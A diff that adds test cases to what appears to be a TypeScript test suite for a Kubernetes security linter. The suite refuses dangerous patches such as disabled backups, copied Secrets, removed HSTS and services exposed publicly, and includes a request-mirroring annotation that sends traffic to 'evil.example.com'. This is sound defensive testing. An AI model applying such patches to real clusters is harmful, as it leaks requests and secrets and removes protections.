@@ -42,6 +42,12 @@ const external: Settings = production({
   JUNJO_K8S_SECRET_STORE: 'SecretStore/vault',
 });
 
+/** On volumes of which there are snapshots. */
+const volsync = production({ JUNJO_K8S_BACKUP: 'volsync', JUNJO_K8S_BACKUP_REPOSITORY: 'backup' });
+const velero = production({ JUNJO_K8S_BACKUP: 'velero' });
+const nginx: Settings = { ...walled, JUNJO_K8S_INGRESS_CLASS: 'nginx' };
+const gateway: Settings = { ...walled, JUNJO_K8S_GATEWAY: 'class:eg', JUNJO_K8S_INGRESS_CLASS: undefined };
+
 interface Patch {
   readonly target: { readonly kind: string; readonly name?: string };
   readonly patch: unknown;
@@ -76,6 +82,18 @@ const annotated = (kind: string, annotations: object): Patch => ({
 });
 const project = (patch: unknown): Patch => ({ target: { kind: 'AppProject' }, patch });
 const application = (patch: unknown): Patch => ({ target: { kind: 'Application' }, patch });
+
+const source = (spec: unknown): Patch => ({ target: { kind: 'ReplicationSource', name: '.*data' }, patch: { spec } });
+const schedule = (spec: unknown): Patch => ({ target: { kind: 'Schedule' }, patch: { spec } });
+const externalSecret = (spec: unknown): Patch => ({ target: { kind: 'ExternalSecret' }, patch: { spec } });
+const certificate = (spec: unknown): Patch => ({ target: { kind: 'Certificate' }, patch: { spec } });
+const middleware = (name: string, patch: unknown): Patch => ({
+  target: { kind: 'Middleware', name: `.*${name}` },
+  patch,
+});
+const ofWeb = (annotations: object): Patch => web({ metadata: { annotations } });
+const ofNginx = (annotation: string, value: string) => ofWeb({ [`nginx.ingress.kubernetes.io/${annotation}`]: value });
+const ofPods = (annotations: object) => deployment('backend', { spec: { template: { metadata: { annotations } } } });
 
 const SECRET = 'junjo-ai-studio-secrets';
 const openAi = { name: 'KEY', valueFrom: { secretKeyRef: { name: SECRET, key: 'OPENAI_API_KEY' } } };
@@ -327,7 +345,7 @@ const dangerous: readonly (readonly [what: string, patch: Patch, rules: string, 
       target: { kind: 'Ingress', name: 'junjo-ai-studio' },
       patch: { metadata: { annotations: { 'traefik.ingress.kubernetes.io/router.middlewares': null } } },
     },
-    'source-ranges',
+    'source-ranges,tls',
   ],
   [
     'an Ingress with a Middleware of a similar name',
@@ -738,6 +756,212 @@ const dangerous: readonly (readonly [what: string, patch: Patch, rules: string, 
     },
     'data-out-of-reach',
   ],
+  // Backups.
+  ['a copy of files in use', source({ restic: { copyMethod: 'Direct' } }), 'backups', volsync],
+  [
+    'backups that pose as ingestion',
+    source({ restic: { moverPodLabels: { 'app.kubernetes.io/component': 'ingestion' } } }),
+    'backups',
+    volsync,
+  ],
+  ['another repository', source({ restic: { repository: 'others' } }), 'backups', volsync],
+  ['no backups', source({ paused: true }), 'backups', volsync],
+  ['backups by hand', source({ trigger: { schedule: null, manual: 'now' } }), 'backups', volsync],
+  ['backups of nothing', source({ restic: { retain: { daily: 0 } } }), 'backups', volsync],
+  ['backups of another claim', source({ sourcePVC: 'others' }), 'backups', volsync],
+  ['no retention', source({ restic: { retain: null } }), 'backups', volsync],
+  ['commands at backups', schedule({ template: { hooks: { resources: [{ name: 'a' }] } } }), 'backups', velero],
+  ['commands at backups, by a pod', ofPods({ 'pre.hook.backup.velero.io/command': '["true"]' }), 'backups', velero],
+  ['backups of files in use, by a pod', ofPods({ 'backup.velero.io/backup-volumes': 'data' }), 'backups', velero],
+  ['backups without volumes', schedule({ template: { snapshotVolumes: false } }), 'backups', velero],
+  ['backups of files in use', schedule({ template: { defaultVolumesToFsBackup: true } }), 'backups', velero],
+  [
+    'backups without claims',
+    schedule({ template: { excludedResources: ['persistentvolumeclaims'] } }),
+    'backups',
+    velero,
+  ],
+  [
+    'backups of some objects',
+    schedule({ template: { labelSelector: { matchLabels: { a: 'b' } } } }),
+    'backups',
+    velero,
+  ],
+  ['backups that pause', schedule({ paused: true }), 'backups', velero],
+  ['backups for an hour', schedule({ template: { ttl: '1h0m0s' } }), 'backups', velero],
+  ['backups for minutes', schedule({ template: { ttl: '10000m' } }), 'backups', velero],
+  [
+    'a claim that backups leave out',
+    {
+      target: { kind: 'PersistentVolumeClaim', name: '.*-data' },
+      patch: { metadata: { labels: { 'velero.io/exclude-from-backup': 'true' } } },
+    },
+    'backups',
+    velero,
+  ],
+  // What makes Secrets.
+  ['all that a store has', externalSecret({ dataFrom: [{ extract: { key: 'all' } }] }), 'secret-makers', external],
+  ['a Secret of another name', externalSecret({ target: { name: 'others' } }), 'secret-makers', external],
+  [
+    'a Secret that goes with its source',
+    externalSecret({ target: { deletionPolicy: 'Delete' } }),
+    'secret-makers',
+    external,
+  ],
+  [
+    'a Secret that a program copies',
+    externalSecret({
+      target: {
+        template: { metadata: { annotations: { 'reflector.v1.k8s.emberstack.com/reflection-allowed': 'true' } } },
+      },
+    }),
+    'secret-makers',
+    external,
+  ],
+  [
+    'a Secret that another program copies',
+    externalSecret({
+      target: { template: { metadata: { annotations: { 'replicator.v1.mittwald.de/replicate-to': '*' } } } },
+    }),
+    'secret-makers',
+    external,
+  ],
+  [
+    "a certificate's key that a program copies",
+    certificate({ secretTemplate: { annotations: { 'kubed.appscode.com/sync': '' } } }),
+    'secret-makers',
+  ],
+  ["a certificate in the studio's Secret", certificate({ secretName: SECRET }), 'secret-makers'],
+  [
+    'a template without keys',
+    externalSecret({ target: { template: { data: { A: 'b' } } } }),
+    'secrets-key-by-key',
+    external,
+  ],
+  // More of the edge.
+  ['copies of requests', ofNginx('mirror-target', 'https://evil.example.com$request_uri'), 'tls', nginx],
+  [
+    'copies of requests, by a route',
+    {
+      target: { kind: 'HTTPRoute', name: '.*-ui' },
+      patch: [
+        add('/spec/rules/0/filters/-', {
+          type: 'RequestMirror',
+          requestMirror: { backendRef: { name: 'evil', port: 80 } },
+        }),
+      ],
+    },
+    'tls',
+    gateway,
+  ],
+  ['all addresses, in a snippet', ofNginx('configuration-snippet', 'allow all;'), 'source-ranges', nginx],
+  [
+    'all addresses, in a snippet of the server',
+    ofNginx('server-snippet', 'location / { allow  all; }'),
+    'source-ranges',
+    nginx,
+  ],
+  ['any of ranges and sign-ins', ofNginx('satisfy', 'any'), 'source-ranges', nginx],
+  ['a redirect to HTTP', middleware('redirect', { spec: { redirectScheme: { scheme: 'http' } } }), 'tls'],
+  ['no HSTS', middleware('hsts', { spec: { headers: { stsSeconds: 0 } } }), 'tls'],
+  [
+    'no HSTS, in a snippet',
+    ofNginx('server-snippet', 'add_header Strict-Transport-Security "max-age=0";'),
+    'tls',
+    nginx,
+  ],
+  [
+    'no redirect',
+    {
+      target: { kind: 'HTTPRoute', name: '.*-redirect' },
+      patch: [replace('/spec/rules/0/filters/0/requestRedirect/scheme', 'http')],
+    },
+    'tls',
+    gateway,
+  ],
+  [
+    'an edge without its HSTS',
+    ofWeb({
+      'traefik.ingress.kubernetes.io/router.middlewares': 'junjo-ai-studio-junjo-ai-studio-source-ranges@kubernetescrd',
+    }),
+    'tls',
+  ],
+  [
+    'API keys on a tailnet',
+    service('backend-internal', { metadata: { annotations: { 'tailscale.com/expose': 'true' } } }),
+    'internal-services',
+  ],
+  [
+    'QDrant on the internet',
+    service('qdrant', { metadata: { annotations: { 'tailscale.com/funnel': 'true' } } }),
+    'internal-services',
+  ],
+  [
+    'reads of spans for other clusters',
+    service('ingestion-internal', { metadata: { labels: { 'mirror.linkerd.io/exported': 'true' } } }),
+    'internal-services',
+  ],
+  // What is not applied.
+  [
+    'a policy that Flux leaves out',
+    annotated('NetworkPolicy', { 'kustomize.toolkit.fluxcd.io/reconcile': 'disabled' }),
+    'applied',
+  ],
+  [
+    'a policy that Flux ignores',
+    annotated('NetworkPolicy', { 'kustomize.toolkit.fluxcd.io/ssa': 'Ignore' }),
+    'applied',
+  ],
+  [
+    'a policy for kustomize alone',
+    annotated('NetworkPolicy', { 'config.kubernetes.io/local-config': 'true' }),
+    'applied',
+  ],
+  [
+    'a Middleware that kapp leaves out',
+    middleware('source-ranges', { metadata: { annotations: { 'kapp.k14s.io/noop': '' } } }),
+    'applied',
+  ],
+  [
+    'policies that Argo CD ignores',
+    application([
+      add('/spec/ignoreDifferences/-', { group: 'networking.k8s.io', kind: 'NetworkPolicy', jsonPointers: ['/spec'] }),
+    ]),
+    'argo-cd-project',
+  ],
+  ['an Application of another folder', application({ spec: { source: { path: 'others' } } }), 'argo-cd-project'],
+  [
+    'an Application of all files',
+    application({ spec: { source: { directory: { include: '*' } } } }),
+    'argo-cd-project',
+  ],
+  // More of pods and settings.
+  [
+    'a nameserver on the internet',
+    pod('ingestion', { dnsPolicy: 'None', dnsConfig: { nameservers: ['9.9.9.9'] } }),
+    'wiring',
+  ],
+  ['a device of the node', ofPods({ 'io.kubernetes.cri-o.Devices': '/dev/sda:/dev/sda:rwm' }), 'pod-security'],
+  ['a seccomp profile of CRI-O', ofPods({ 'seccomp-profile.kubernetes.cri-o.io/POD': 'unconfined' }), 'pod-security'],
+  [
+    'development in production',
+    named('ConfigMap', 'backend-settings', { data: { JUNJO_ENV: 'development' } }),
+    'no-inline-values',
+  ],
+  ['every origin', named('ConfigMap', 'backend-settings', { data: { JUNJO_ALLOW_ORIGINS: '*' } }), 'no-inline-values'],
+  ['a misspelt ConfigMap', volume('backend', { configMap: { name: 'junjo-ai-studio-fronted-config' } }), 'references'],
+  ['a ConfigMap without its prefix', volume('backend', { configMap: { name: 'frontend-config' } }), 'references'],
+  [
+    'a misspelt Service',
+    web([
+      add('/spec/rules/0/http/paths/0', {
+        path: '/x',
+        pathType: 'Prefix',
+        backend: { service: { name: 'junjo-ai-studio-backnd', port: { number: 1323 } } },
+      }),
+    ]),
+    'ports',
+  ],
 ];
 
 describe('a patch that undoes a wall is refused with file and line, and passes with a waiver:', () => {
@@ -843,7 +1067,11 @@ const everyday: readonly (readonly [what: string, patch: Patch, settings?: Setti
     "the template of a Secret's data",
     {
       target: { kind: 'ExternalSecret' },
-      patch: { spec: { target: { template: { data: { OPENAI_API_KEY: '{{ .OPENAI_API_KEY | trim }}' } } } } },
+      patch: {
+        spec: {
+          target: { template: { mergePolicy: 'Merge', data: { OPENAI_API_KEY: '{{ .OPENAI_API_KEY | trim }}' } } },
+        },
+      },
     },
     external,
   ],
@@ -951,6 +1179,83 @@ const everyday: readonly (readonly [what: string, patch: Patch, settings?: Setti
         },
       },
     }),
+  ],
+  [
+    'when backups run, and how long they are kept',
+    source({ trigger: { schedule: '7 3 * * *' }, restic: { retain: { daily: 400, monthly: 6 } } }),
+    volsync,
+  ],
+  [
+    'what backups take',
+    source({
+      restic: {
+        copyMethod: 'Clone',
+        cacheCapacity: '8Gi',
+        moverPodLabels: { team: 'ml' },
+        moverServiceAccount: 'backup',
+        moverResources: { limits: { memory: '1Gi' } },
+      },
+    }),
+    volsync,
+  ],
+  [
+    'when Velero runs, and where it keeps backups',
+    schedule({ schedule: '7 3 * * *', paused: false, template: { ttl: '9999h', storageLocation: 'eu' } }),
+    velero,
+  ],
+  ['an annotation for a Velero that the studio does not have', ofPods({ 'backup.velero.io/backup-volumes': 'data' })],
+  [
+    'another place in the store',
+    { target: { kind: 'ExternalSecret' }, patch: [replace('/spec/data/0/remoteRef/key', 'team/junjo')] },
+    external,
+  ],
+  ['more HSTS', middleware('hsts', { spec: { headers: { stsSeconds: 63072000, stsPreload: true } } })],
+  ['a header in a snippet', ofNginx('configuration-snippet', 'more_set_headers "X-Frame-Options: DENY";'), nginx],
+  [
+    'a Middleware more',
+    ofWeb({
+      'traefik.ingress.kubernetes.io/router.middlewares':
+        'junjo-ai-studio-junjo-ai-studio-source-ranges@kubernetescrd,junjo-ai-studio-junjo-ai-studio-hsts@kubernetescrd,traefik-compress@kubernetescrd',
+    }),
+  ],
+  [
+    'a name in DNS',
+    service('frontend', {
+      metadata: { annotations: { 'external-dns.alpha.kubernetes.io/hostname': 'junjo.internal' } },
+    }),
+  ],
+  [
+    'a claim that Flux leaves as it is',
+    annotated('PersistentVolumeClaim', { 'kustomize.toolkit.fluxcd.io/ssa': 'IfNotPresent' }),
+  ],
+  [
+    'replicas that Argo CD ignores',
+    application([
+      add('/spec/ignoreDifferences/-', { group: 'apps', kind: 'Deployment', jsonPointers: ['/spec/replicas'] }),
+    ]),
+  ],
+  ['the nameserver of the node', pod('backend', { dnsPolicy: 'None', dnsConfig: { nameservers: ['169.254.20.10'] } })],
+  ["a company's authority", volume('backend', { configMap: { name: 'company-ca' } })],
+  ["a company's authority, named for the studio", volume('backend', { configMap: { name: 'junjo-ai-studio-ca' } })],
+  [
+    'a sign-in proxy',
+    web([
+      add('/spec/rules/0/http/paths/0', {
+        path: '/oauth2',
+        pathType: 'Prefix',
+        backend: { service: { name: 'oauth2-proxy', port: { number: 4180 } } },
+      }),
+    ]),
+  ],
+  [
+    'a sign-in proxy, named for the studio',
+    web([
+      add('/spec/rules/0/http/paths/0', {
+        path: '/oauth2',
+        pathType: 'Prefix',
+        backend: { service: { name: 'junjo-ai-studio-proxy', port: { number: 4180 } } },
+      }),
+    ]),
   ],
 ];
 
